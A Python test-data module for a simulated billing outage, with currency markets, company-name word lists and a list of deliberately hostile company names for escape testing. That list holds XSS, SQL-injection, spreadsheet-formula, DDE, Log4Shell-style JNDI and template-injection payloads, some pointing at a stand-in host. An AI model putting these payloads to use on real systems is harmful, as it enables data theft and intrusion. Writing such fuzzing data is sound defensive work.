"""The words an outage is made of: company names, markets with fitting money, and names that test every escape."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True)
class Market:
    """Where a client does business.

    Attributes:
        rate_minor: the usual price of one application, lowest and highest, in minor units of `currency`.
        weight: how common the market is, relative to the others.
    """

    country: str
    currency: str
    rate_minor: tuple[int, int]
    weight: int


SHOWCASE: Final = (
    Market("US", "USD", (450, 4_500), 30),
    Market("JP", "JPY", (500, 6_000), 7),
    Market("KW", "KWD", (1_500, 12_000), 3),
)
"""Two, no and three decimals: the first clients of every outage come from here, so that each is always seen."""

MARKETS: Final = (
    *SHOWCASE,
    Market("GB", "GBP", (400, 3_800), 12),
    Market("DE", "EUR", (420, 4_200), 10),
    Market("FR", "EUR", (420, 3_900), 6),
    Market("IE", "EUR", (450, 4_400), 2),
    Market("CA", "CAD", (600, 5_500), 6),
    Market("AU", "AUD", (700, 6_000), 5),
    Market("IN", "INR", (9_000, 90_000), 8),
    Market("BR", "BRL", (1_500, 14_000), 5),
    Market("CH", "CHF", (600, 5_500), 3),
    Market("SE", "SEK", (4_500, 42_000), 2),
    Market("PL", "PLN", (1_500, 14_000), 2),
    Market("SG", "SGD", (600, 5_500), 2),
    Market("KR", "KRW", (4_000, 55_000), 2),
    Market("BH", "BHD", (1_500, 12_000), 1),
)

_FIRST: Final = (
    "Acme Alder Anchor Aurora Beacon Birch Bluebird Bright Canopy Cedar Civic Clover Cobalt Compass Copper Coral "
    "Crescent Delta Ember Evergreen Falcon Fjord Garnet Granite Harbour Hazel Heron Horizon Iris Juniper Kestrel "
    "Lantern Larch Linden Maple Meridian Mistral Monarch Northgate Oakfield Orchard Osprey Pioneer Quarry Ridge "
    "Rowan Sable Saffron Sequoia Summit Tamarind Thistle Tidewater Umber Verdant Vista Willow Zephyr"
)

_SECOND: Final = (
    "Staffing Recruitment Talent Careers Logistics Foods Health Hospitals Retail Robotics Software Insurance "
    "Hospitality Energy Aviation Textiles Security Education Automotive Dairy"
)

FIRST_WORDS: Final = tuple(_FIRST.split())
SECOND_WORDS: Final = tuple(_SECOND.split())
SUFFIXES: Final = ("", "", "", "Inc.", "Ltd", "GmbH", "Group", "LLC", "& Partners", "Holdings", "Co.")

HOSTILE_NAMES: Final = (
    "<script>alert('billing')</script> Staffing",
    '=HYPERLINK("https://example.invalid/?x="&A1,"Acme Staffing")',
    'O\'Brien "Quality" & Sons <Ltd>',
    "+1-800-FLOWERS |' /C calc'!A0",
    "@SUM(1+1)*cmd Talent",
    "-2+3 Recruitment",
    "שירותי כוח אדם תל אביב",
    "شركة التوظيف الكويتية",
    "Acme \u202egnitiurceR\u202c Group",
    "🚀 Rocket Jobs 👩🏽‍💻",
    "株式会社みらい人材",
    "Zoë Müller-Łukasiewicz Søn",
    "{{ 7*7 }} ${jndi:ldap://example.invalid/a} %s %n",
    "Robert'); DROP TABLE clients;--",
    "Tab\there, newline\nthere",
    "C:\\temp\\Jobs \\u0041",
    "]]></name><!-- Careers",
    "a" * 1024,
)
"""Valid all the same: a name is any text of 1 to 1,024 characters. Markup, spreadsheet formulas, quotes,
right-to-left text and its override, emoji, templates, line breaks, and the longest name there can be."""
